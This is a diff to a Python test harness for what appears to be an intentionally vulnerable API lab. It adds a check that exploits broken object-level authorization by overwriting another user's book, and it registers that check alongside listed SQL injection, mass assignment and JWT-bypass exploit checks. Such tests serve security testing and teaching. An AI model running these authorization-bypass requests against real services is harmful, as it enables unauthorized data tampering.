@@ -79,6 +79,11 @@ def _mass_assignment_role(app, url):
     return call(url, "GET", "/books/v1/2", token=app.token_for("alice"))[0] == 200  # librarians read every book
 
 
+def _bola_book_write(app, url):
+    call(url, "PUT", "/books/v1/3", token=app.token_for("alice"), body={"title": "Mine now", "secret": "x"})
+    return app.db.execute("SELECT title FROM books WHERE id = 3").fetchone() == ("Mine now",)
+
+
 def _mass_assignment_unreadable(app, url):
     assert call(url, "POST", "/newsletter/v1/subscriptions", body={"email": "m@evil.test", "premium": True})[0] == 202
     return app.db.execute("SELECT premium FROM subscriptions WHERE email = 'm@evil.test'").fetchone() == (1,)
@@ -87,7 +92,7 @@ def _mass_assignment_unreadable(app, url):
 EXPLOITS = {f.__name__[1:]: f for f in (_sqli, _bola_password, _bola_email, _bola_read, _mass_assignment,
                                        _data_exposure, _enumeration, _unthrottled_login, _weak_jwt_secret,
                                        _jwt_alg_none, _bfla_role, _bola_body, _mass_assignment_role,
-                                       _mass_assignment_unreadable)}
+                                       _mass_assignment_unreadable, _bola_book_write)}
 
 
 def _exploited(flaws, name) -> bool:
